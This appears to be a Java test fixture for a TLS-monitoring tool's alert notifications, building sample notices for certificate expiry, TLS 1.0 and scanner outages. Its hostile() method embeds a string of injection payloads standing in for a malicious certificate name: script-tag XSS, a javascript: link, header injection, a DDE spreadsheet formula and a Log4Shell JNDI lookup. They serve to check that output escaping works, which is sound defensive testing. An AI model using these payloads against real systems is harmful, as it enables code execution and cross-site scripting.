package io.tlsfleet.api.notify;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import io.tlsfleet.fleet.json.Json;
import io.tlsfleet.store.alert.Cause;
import io.tlsfleet.store.alert.Estate;
import io.tlsfleet.store.alert.Instance;
import io.tlsfleet.store.alert.Situation;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.jspecify.annotations.Nullable;

/** One notice of every kind, in the words of the product, of one estate on one day. */
final class SampleNotices {
    static final Instant NOW = Instant.parse("2026-11-21T14:05:00.123456789Z");
    static final Estate ESTATE = new Estate("5e7a1c0d", Instant.EPOCH);
    private static final Wording WORDING = new Wording("https://tls.example", ESTATE);

    private SampleNotices() {}

    static Map<String, Notice> all() {
        Map<String, Notice> all = new LinkedHashMap<>();
        Instance intermediate =
                alert(41, "certificate.expires-soon", "high", "Intermediate certificate ends in 3 days", 1204);
        Situation ends = situation(
                "Intermediate certificate ends in 3 days",
                "\"Example CA G1\" ends on 24 November 2026, 09:00 UTC. Every chain that goes through it stops being trusted then.",
                "Clients stop trusting every server that sends this intermediate, all at the same moment.",
                "Get the successor of \"Example CA G1\" from the CA, append it in place of the old one, and reload the servers.",
                group("web-team", "prod", 900, "shop.example:443", "pay.example:443", "api.example:443"),
                group("mail", "prod", 300, "mail.example:465", "mx.example:25"),
                group(null, "test", 4, "lab.example:8443"));
        all.put("firing", WORDING.stage(intermediate, "firing-high", ends, ends.groups(), NOW));
        Instance worse = with(intermediate, "critical", "Intermediate certificate ends tomorrow");
        Situation tomorrow = situation(
                "Intermediate certificate ends tomorrow",
                ends.detail(),
                ends.text().path("why").asText(),
                ends.text().path("remedy").asText(),
                ends.groups().toArray(Situation.Group[]::new));
        all.put("worse", WORDING.stage(worse, "worse-critical", tomorrow, tomorrow.groups(), NOW));
        all.put("resolved", WORDING.over(intermediate, false, ends.groups(), NOW));
        Instance expired = alert(7, "certificate.expired", "critical", "Certificate has expired", 1);
        Situation old = situation(
                "Certificate has expired",
                "CN=old.example ended on 20 November 2026, 08:00 UTC, 1 day ago.",
                "Browsers and most clients refuse the connection.",
                "Renew the certificate and reload the server. If it was renewed, the server still has the old one in memory.",
                group("web-team", "prod", 1, "old.example:443"));
        all.put("reminder", WORDING.stage(expired, "reminder", old, old.groups(), NOW));
        Instance flapping = alert(9, "protocol.tls10-accepted", "high", "TLS 1.0 is accepted", 2);
        Situation tls10 = situation(
                "TLS 1.0 is accepted",
                "The server completed a TLS 1.0 handshake.",
                "TLS 1.0 has no modern cipher suites and RFC 8996 forbids it.",
                "nginx: ssl_protocols TLSv1.2 TLSv1.3;",
                group("web-team", "prod", 2, "a.example:443", "b.example:443"));
        all.put("flapping", WORDING.stage(flapping, "flapping", tls10, tls10.groups(), NOW));
        List<Wording.Part> parts = new ArrayList<>(List.of(
                new Wording.Part("high", "TLS 1.0 is accepted", 812, false, "a.example:443"),
                new Wording.Part("medium", "No forward secrecy", 96, false, "b.example:443"),
                new Wording.Part("high", "Certificate does not name the host", 1, false, "c.example:8443")));
        all.put("digest", WORDING.firstScan("web-team", parts, NOW));
        parts.add(new Wording.Part("low", "CBC suites are accepted", 44, true, null));
        all.put("summary", WORDING.judgement(parts, List.of("mail", "web-team"), NOW));
        all.put(
                "group",
                WORDING.group(
                        List.of(
                                WORDING.stage(flapping, "firing-high", tls10, tls10.groups(), NOW),
                                WORDING.stage(expired, "firing-critical", old, old.groups(), NOW)),
                        NOW));
        all.put(
                "dead-man",
                WORDING.ofOurselves(
                        alert(3, "fleet.scanning-stopped", "critical", "Scanning has stopped at site dmz", 0),
                        "dead-man",
                        "412 endpoints are due, the oldest for 25 minutes, and no scan was completed. What is shown of them is old.",
                        "/sites",
                        NOW));
        all.put("test", Channels.test(NOW));
        all.put("hostile", hostile());
        return all;
    }

    /** Names as an attacker would have them in a certificate. */
    static Notice hostile() {
        String evil =
                "<!channel> @here *bold* _x_ `code` <script>alert(1)</script> [x](javascript:alert(1)) \"quoted\" \\ \r\nBcc: all@example \u202Egpj.exe\u0007 =cmd|' /C calc'!A0 {{remedy}} ${jndi:ldap://x}";
        Instance alert = alert(66, "certificate.name-mismatch", "high", "Certificate does not name the host", 1);
        Situation situation = situation(
                "Certificate names " + evil,
                "It names " + evil + " and not the host.",
                "Clients refuse it.",
                "Get a certificate for the name.",
                group(evil, "prod", 1, evil + ":443"));
        return WORDING.stage(alert, "firing-high", situation, situation.groups(), NOW);
    }

    private static Instance alert(long id, String rule, String severity, String title, int endpoints) {
        return new Instance(
                id,
                new Cause(rule, "certificate:ab"),
                severity,
                "firing",
                title,
                endpoints,
                NOW.minus(Duration.ofHours(30)),
                null,
                1,
                null,
                null,
                Json.tree(Lifecycle.Memory.NONE));
    }

    private static Instance with(Instance a, String severity, String title) {
        return new Instance(
                a.id(), a.cause(), severity, "firing", title, a.endpoints(), a.since(), null, 1, null, null, a.notes());
    }

    private static Situation situation(
            String title, String detail, String why, String remedy, Situation.Group... groups) {
        JsonNode text = JsonNodeFactory.instance.objectNode().put("why", why).put("remedy", remedy);
        return new Situation(
                1, 0, "high", title, detail, text, NOW.minus(Duration.ofHours(30)), false, null, List.of(groups));
    }

    private static Situation.Group group(@Nullable String owner, String environment, int endpoints, String... names) {
        List<Situation.Example> examples = new ArrayList<>();
        for (String name : names) {
            examples.add(new Situation.Example(examples.size() + 1, name));
        }
        return new Situation.Group(
                owner,
                "dmz",
                "public-web",
                JsonNodeFactory.instance.objectNode().put("env", environment),
                endpoints,
                examples);
    }
}
